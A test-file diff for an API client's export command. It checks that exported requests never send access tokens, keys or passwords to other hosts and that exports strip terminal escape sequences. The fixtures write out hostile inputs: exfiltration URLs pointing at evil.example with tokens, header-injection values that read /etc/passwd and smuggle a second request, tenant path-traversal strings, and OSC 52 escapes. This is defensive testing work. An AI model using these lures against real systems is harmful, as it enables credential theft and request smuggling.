@@ -1,0 +1,184 @@
+"""What an exported request can send elsewhere, and what an export does to the terminal."""
+
+import json
+import re
+
+import pytest
+
+from tests.adversarial.machine import Machine
+from tests.adversarial.test_requests import LURES, Lure, append, quoted
+from weda_tui.cli.exporting import CODE, FORMATS
+
+REQUEST_FORMATS = [each for each in FORMATS if each != "postman-env"]
+SECRETS = (
+    "access_token",
+    "ACCESS_TOKEN",
+    "basic_auth",
+    "BASIC_AUTH",
+    "SECRET_ID",
+    "SECRET_KEY",
+    "USERNAME",
+    "PASSWORD",
+)
+ELSEWHERE = [lure for lure in LURES if not lure.url.startswith("{{vars.host}}/")]
+"""Those whose address is not the deployment's; the rest send their token home."""
+REWRITTEN = {"evil-as-user", "backslash"}
+"""Those that are exported without what stands before ``@``, and so to the deployment."""
+MORE = [
+    Lure("key-in-the-query", "<EVIL>/?k={{SECRET_KEY}}"),
+    Lure("basic-in-a-header", "<EVIL>/", 'headers = ["X-B: {{basic_auth}}"]\n'),
+    Lure("program-name-in-a-header", "<EVIL>/", 'headers = ["X-B: {{ACCESS_TOKEN}}"]\n'),
+    Lure("password-in-the-body", "<EVIL>/", 'body = "{{USERNAME}}:{{PASSWORD}}"\n'),
+    Lure("spaced-name", "<EVIL>/", 'headers = ["X-B: {{ access_token }}"]\n'),
+    Lure(
+        "token-in-a-variable",
+        "<EVIL>/",
+        'headers = ["X-B: {{t}}"]\n[variables]\nt = "{{access_token}}"\n',
+    ),
+    Lure(
+        "name-in-pieces",
+        "<EVIL>/",
+        'headers = ["X-B: {{access{{u}}token}}"]\n[variables]\nu = "_"\n',
+    ),
+    Lure(
+        "braces-in-pieces",
+        "<EVIL>/",
+        'headers = ["X-B: {{a}}{{b}}"]\n[variables]\na = "{{acc"\nb = "ess_token}}"\n',
+    ),
+    Lure(
+        "token-in-a-variable-of-the-environment",
+        "<EVIL>/",
+        'headers = ["X-B: {{t}}"]\n',
+        files=(("environments/hq.toml", '[variables]\nt = "{{access_token}}"\n'),),
+    ),
+    Lure(
+        "implied-token",
+        "{{vars.host}}@<EVIL-PLACE>/x",
+        'endpoint = "workflow.DescribeInstanceApproverList"\n',
+    ),
+    Lure("host-and-a-variable", "{{vars.host}}{{x}}/", '[variables]\nx = "@<EVIL-PLACE>"\n'),
+    Lure("above-the-prefix", "{{vars.host}}/../other-tenant/x"),
+    Lure("above-the-prefix-escaped", "{{vars.host}}/%2e%2E/other-tenant/x"),
+    Lure("above-the-prefix-backslash", "{{vars.host}}/a\\..\\..\\other-tenant/x"),
+]
+
+
+@pytest.mark.parametrize("lure", [*ELSEWHERE, *MORE], ids=lambda lure: lure.name)
+def test_an_export_gives_no_token_to_another_address(machine: Machine, lure: Lure) -> None:
+    for name, text in lure.files:
+        append(machine, name, text)
+    machine.write(
+        "collections/lure/zz.toml", f'method = "POST"\nurl = {quoted(lure.url)}\n{lure.lines}'
+    )
+    for format_ in REQUEST_FORMATS:
+        for place in ((), *([("--env", "hq")] if format_ in CODE else [])):
+            ran = machine.run("export", "lure/zz", "--format", format_, *place, "--lang", "en")
+            said = f"{lure.name}: {format_} {place}: exit {ran.status}: {ran.text}{ran.talk}"
+            is_elsewhere = machine.evil.place in ran.text or "evil" in ran.text
+            if is_elsewhere or lure.name not in REWRITTEN:
+                assert [name for name in SECRETS if name in ran.text] == [], said
+            assert ran.status in {0, 2}, said
+
+
+def test_what_was_left_out_is_named_with_its_host(machine: Machine) -> None:
+    machine.write("collections/lure/a.toml", 'method = "POST"\nurl = "{{vars.host}}/x"\n')
+    machine.write(
+        "collections/lure/zz.toml",
+        'method = "POST"\nurl = "http://evil.example/?t={{access_token}}"\n'
+        'headers = ["X-B: {{basic_auth}}"]\n',
+    )
+    for format_ in REQUEST_FORMATS:
+        ran = machine.run("export", "lure", "--format", format_, "--lang", "en")
+        assert ran.status == 0, ran.talk
+        assert b"evil" not in ran.data, format_
+        assert "would send access_token, basic_auth to http://evil.example" in ran.talk, format_
+        alone = machine.run("export", "lure/zz", "--format", format_, "--lang", "en")
+        assert (alone.status, alone.data) == (2, b""), format_
+        assert "would send access_token, basic_auth to http://evil.example" in alone.talk
+
+
+def test_a_collection_sends_no_answer_of_the_deployment_elsewhere(machine: Machine) -> None:
+    machine.write(
+        "collections/lure/first.toml",
+        'endpoint = "auth.clientCredential"\nmethod = "POST"\n'
+        'url = "{{vars.host}}/auth/v1/token/clientCredential"\n'
+        '[capture]\nTaken = "$.access_token"\n',
+    )
+    machine.write(
+        "collections/lure/zz.toml",
+        'method = "POST"\nurl = "http://evil.example/"\nbody = "{{Taken}}"\n'
+        'depends = ["lure/first"]\n',
+    )
+    ran = machine.run("export", "lure", "--format", "postman", "--lang", "en")
+    assert b"evil" not in ran.data
+    assert "would send Taken to http://evil.example" in ran.talk
+
+
+@pytest.mark.parametrize("name", ["vars.host", "WeDa.EnvType", "SECRET_KEY", "access_token"])
+def test_a_collection_captures_no_address_and_no_key(machine: Machine, name: str) -> None:
+    """Else an answer of an attacker would be the address of every request that follows."""
+    machine.write(
+        "collections/lure/zz.toml",
+        f'method = "POST"\nurl = "http://evil.example/"\n[capture]\n"{name}" = "$.x"\n',
+    )
+    ran = machine.run("export", "lure/zz", "--format", "postman", "--lang", "en")
+    (item,) = json.loads(ran.data)["item"]
+    script = "\n".join(line for e in item.get("event", []) for line in e["script"]["exec"])
+    assert name not in script
+    assert f"capture {name}" in ran.talk
+
+
+@pytest.mark.parametrize("format_", REQUEST_FORMATS)
+@pytest.mark.parametrize(
+    "value", ["x\nY: 1\n\n< /etc/passwd\n###\nGET http://evil.example/", "a\x1b", "a\x00b", "a\rb"]
+)
+def test_a_header_with_a_control_character_is_refused_as_by_send(
+    machine: Machine, format_: str, value: str
+) -> None:
+    machine.write("collections/lure/a.toml", 'method = "POST"\nurl = "{{vars.host}}/x"\n')
+    machine.write(
+        "collections/lure/zz.toml",
+        'method = "POST"\nurl = "{{vars.host}}/y"\nheaders = ["X-A: {{a}}"]\n'
+        f"[variables]\na = {quoted(value)}\n",
+    )
+    for place in ((), ("--env", "hq")):
+        ran = machine.run("export", "lure", "--format", format_, *place, "--lang", "en")
+        assert ran.status == 0, ran.talk
+        assert b"evil" not in ran.data
+        assert b"/y" not in ran.data
+        assert "zz was not exported: The header X-A is not valid." in ran.talk
+
+
+NASTY = "a\x1b]52;c;YQ==\x07\x9b31m\u202eb\u0085"
+
+
+@pytest.mark.parametrize("format_", REQUEST_FORMATS)
+def test_an_export_does_nothing_to_a_terminal(machine: Machine, format_: str) -> None:
+    machine.write(
+        "collections/lure/zz.toml",
+        f'method = "POST"\nurl = "{{{{vars.host}}}}/y"\nbody = {quoted(NASTY)}\n'
+        f"[variables]\na = {quoted(NASTY)}\n",
+    )
+    words = ("export", "lure/zz", "--format", format_, "--lang", "en")
+    shown, piped = machine.run(*words, terminal=True), machine.run(*words)
+    assert shown.status == piped.status == 0
+    assert not any(each in shown.text for each in "\x1b\x07\x9b\u202e\x85")
+    assert ("cleaned" in shown.talk) == (shown.data != piped.data)
+    assert "cleaned" not in piped.talk
+    file = machine.folder / "out"
+    machine.run(*words, "-o", str(file), terminal=True)
+    moment = rb'"startedDateTime": "[^"]*"'
+    assert re.sub(moment, b"", file.read_bytes()) == re.sub(moment, b"", piped.data)
+
+
+def test_an_export_for_a_route_that_nobody_approved_says_so(machine: Machine) -> None:
+    machine.write("collections/lure/a.toml", 'method = "POST"\nurl = "{{vars.host}}/x"\n')
+    words = ("export", "lure/a", "--format", "curl", "--env", "hq", "--lang", "en")
+    before = machine.run(*words)
+    assert before.status == 0
+    assert "approved" not in before.talk
+    machine.edit("hq", "<HOME>", "<EVIL>")
+    after = machine.run(*words)
+    assert after.status == 0
+    assert "approved" in after.talk
+    assert f"127.0.0.1:{machine.evil.port}" in after.talk
